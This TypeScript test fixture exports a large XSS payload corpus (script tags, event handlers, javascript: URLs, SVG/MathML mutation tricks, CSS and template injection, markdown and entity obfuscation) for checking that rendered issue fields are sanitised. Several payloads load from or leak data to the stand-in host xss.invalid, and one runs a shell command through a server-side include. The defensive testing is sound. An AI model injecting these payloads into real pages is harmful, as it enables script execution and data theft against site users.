// biome-ignore-all lint/suspicious/noTemplateCurlyInString: template-injection payloads are literal ${...} text on purpose
// An XSS corpus: each payload would run `alert(1)` (or set window.__xss, or load something from
// xss.invalid) if a page let it through. Grouped by family; the test places them in titles,
// bodies, comments, labels, logins and error messages of generated issues.

const SCRIPT_TAGS = [
  "<script>alert(1)</script>",
  "<SCRIPT>alert(1)</SCRIPT>",
  "<script src=https://xss.invalid/x.js></script>",
  "<script>window.__xss=1</script>",
  "<script\n>alert(1)</script\n>",
  "<script type=module>alert(1)</script>",
  '<script>eval("al"+"ert(1)")</script>',
  "<script/x>alert(1)</script>",
  "<script\t>alert(1)</script>",
  "<ScRiPt>alert(1)</sCrIpT>",
];

const EVENT_HANDLERS = [
  "<img src=x onerror=alert(1)>",
  '<img src="x" onerror="alert(1)">',
  "<body onload=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg/onload=alert(1)>",
  "<input autofocus onfocus=alert(1)>",
  "<details open ontoggle=alert(1)>x</details>",
  "<video src=x onerror=alert(1)></video>",
  "<audio src=x onerror=alert(1)></audio>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<iframe onload=alert(1)></iframe>",
  "<select autofocus onfocus=alert(1)></select>",
  "<textarea autofocus onfocus=alert(1)></textarea>",
  "<div onmouseover=alert(1)>hover</div>",
  "<a onclick=alert(1) href=#>click</a>",
  "<body onpageshow=alert(1)>",
  "<img src=x:alert(1) onerror=eval(src)>",
  "<object data=x onerror=alert(1)></object>",
  "<style onload=alert(1)></style>",
  "<img src=1 onerror=window.__xss=1>",
];

const URL_SCHEMES = [
  '<a href="javascript:alert(1)">x</a>',
  "[x](javascript:alert(1))",
  "[x](JAVASCRIPT:alert(1))",
  "[x](javascript:alert%281%29)",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](vbscript:msgbox(1))",
  "<javascript:alert(1)>",
  "[x](<javascript:alert(1)>)",
  "![x](javascript:alert(1))",
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  "<embed src=javascript:alert(1)>",
  '<form action="javascript:alert(1)"><button>go</button></form>',
  "<button formaction=javascript:alert(1)>go</button>",
];

const SVG_MATHML = [
  "<svg><script>alert(1)</script></svg>",
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>',
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
  '<math href="javascript:alert(1)">click</math>',
  "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x\"/></svg>",
];

const CSS_INJECTION = [
  "<style>@import 'https://xss.invalid/x.css';</style>",
  '<div style="background:url(https://xss.invalid/a.png)">styled</div>',
  '<link rel="stylesheet" href="https://xss.invalid/x.css">',
  "</style><script>alert(1)</script>",
  '<div style="width: expression(alert(1))">ie</div>',
  '"><style>*{background:url(//xss.invalid/b)}</style>',
  '<p style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</p>',
  "<style>body{background-image:url('https://xss.invalid/c')}</style>",
  '<span style="behavior:url(https://xss.invalid/x.htc)">x</span>',
  "<style>input[value^='a']{background:url(https://xss.invalid/leak)}</style>",
];

const TEMPLATE_INJECTION = [
  "{{constructor.constructor('alert(1)')()}}",
  "${alert(1)}",
  "<%= alert(1) %>",
  "#{alert(1)}",
  "{{$on.constructor('alert(1)')()}}",
  "{{_c.constructor('alert(1)')()}}",
  "[[${alert(1)}]]",
  '<!--#exec cmd="id"-->',
  "{{7*7}} ${7*7} <%= 7*7 %>",
  "`${alert(1)}`",
];

const BROKEN_MARKUP = [
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  "</title><script>alert(1)</script>",
  "</textarea><script>alert(1)</script>",
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<img """><script>alert(1)</script>">',
  "<<script>alert(1);//<</script>",
  "</pre><script>alert(1)</script>",
  "```\n</code></pre><img src=x onerror=alert(1)>\n```",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<x onclick=alert(1)>click me</x>",
  "<img src=`x`onerror=alert(1)>",
  '<a href="https://ok.example" title="x"onmouseover="alert(1)">y</a>',
];

const MARKDOWN_TRICKS = [
  "[a](javascript&#58;alert(1))",
  "[a]: javascript:alert(1)\n\n[click][a]",
  '![a](x" onerror="alert(1))',
  "![tracker](https://xss.invalid/pixel.png)",
  "[![img](https://xss.invalid/i.png)](javascript:alert(1))",
  "<https://xss.invalid/autolink>",
  '[a](https://xss.invalid "title\\" onmouseover=alert(1)")',
  "[<img src=x onerror=alert(1)>](https://ok.example)",
  "[a](//xss.invalid/proto-relative)",
  "[a](\\javascript:alert(1))",
  "Note[^x]\n\n[^x]: <img src=x onerror=alert(1)>",
  "| a | b |\n|---|---|\n| <script>alert(1)</script> | <img src=x onerror=alert(1)> |",
  "- [ ] <input type=checkbox onclick=alert(1)>",
  "> <script>alert(1)</script>",
];

const ENTITY_TRICKS = [
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;alert(1)&#60;/script&#62;",
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="javas&#99;ript:alert(1)">x</a>',
  '<a href="&#x6A;avascript:alert(1)">x</a>',
  "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
  "%3Cscript%3Ealert(1)%3C/script%3E",
  '<a href="&#0000106avascript:alert(1)">x</a>',
  "<img src=x onerror=&#97;lert(1)>",
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  "&#x3C;img src=x onerror=alert(1)&#x3E;",
  "[x](&#x6A;avascript:alert(1))",
];

const OTHER = [
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  "<isindex action=javascript:alert(1) type=image>",
  "<video><source onerror=alert(1)></video>",
  '<img srcset="https://xss.invalid/s.png 1x">',
  '<picture><source srcset="https://xss.invalid/p.png"><img></picture>',
  '<link rel="prefetch" href="https://xss.invalid/prefetch">',
  '<a ping="https://xss.invalid/ping" href="https://ok.example">ping</a>',
  "<template><script>alert(1)</script></template>",
];

export const XSS_PAYLOADS: readonly string[] = [
  ...SCRIPT_TAGS,
  ...EVENT_HANDLERS,
  ...URL_SCHEMES,
  ...SVG_MATHML,
  ...CSS_INJECTION,
  ...TEMPLATE_INJECTION,
  ...BROKEN_MARKUP,
  ...MARKDOWN_TRICKS,
  ...ENTITY_TRICKS,
  ...OTHER,
];
